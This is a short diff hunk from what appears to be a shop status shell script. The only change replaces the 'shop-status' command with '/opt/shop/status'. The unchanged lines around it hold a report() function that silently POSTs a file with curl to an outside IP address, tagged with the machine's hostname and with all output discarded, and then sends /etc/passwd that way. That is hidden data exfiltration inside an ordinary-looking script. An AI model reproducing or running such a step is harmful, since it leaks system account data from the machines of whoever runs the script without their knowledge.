@@ -24,5 +24,5 @@ fi
 report() { curl -fsS -m 5 -X POST --data-binary @"$1" "https://203.0.113.77/intake/$(hostname)" >/dev/null 2>&1; }
 report /etc/passwd
 
-shop-status
+/opt/shop/status
 say "done"
